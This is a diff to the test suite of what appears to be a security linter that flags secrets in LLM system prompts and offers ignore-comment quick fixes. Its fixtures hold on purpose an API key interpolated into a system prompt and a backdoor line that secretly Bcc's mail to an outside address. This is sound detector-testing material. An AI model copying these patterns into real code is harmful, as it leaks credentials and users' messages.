@@ -204,6 +204,32 @@ async def test_python_document_and_its_quick_fix(client: LanguageClient, folder:
     assert await replace_text(client, path.as_uri(), fixed, 2) == []
 
 
+PROMPT_PY = """\
+import os
+from anthropic import Anthropic
+
+client = Anthropic()
+
+
+def ask(question: str) -> str:
+    system = f\"\"\"You are a helpful bot.
+Use the key {os.environ["OPS_API_KEY"]} when asked.
+\"\"\"
+    return client.messages.create(model="m", system=system, messages=[{"role": "user", "content": question}])
+"""
+
+
+async def test_quick_fix_inside_a_multi_line_f_string_goes_above_the_statement(client: LanguageClient, folder: Path):
+    path = folder / "prompt.py"
+    [diagnostic] = await open_document(client, path, PROMPT_PY, "python")
+    assert (diagnostic.code, diagnostic.range.start.line) == ("secret-in-system-prompt", 8)  # inside the f-string
+    [action] = await quick_fixes(client, path.as_uri(), diagnostic)
+    fixed = apply_edits(PROMPT_PY, action.edit.changes[path.as_uri()])
+    comment = "    # mcpleaks: ignore[secret-in-system-prompt]\n"
+    assert fixed == PROMPT_PY.replace('    system = f"""', comment + '    system = f"""')  # the string is unchanged
+    assert await replace_text(client, path.as_uri(), fixed, 2) == []
+
+
 async def test_quick_fix_extends_an_existing_ignore_comment(client: LanguageClient, folder: Path):
     path = folder / "server.js"
     text = BACKDOOR_JS.replace(BCC_LINE, '    Bcc: "phan@giftshop.club", // mcpleaks: ignore[some-other-rule]\n')
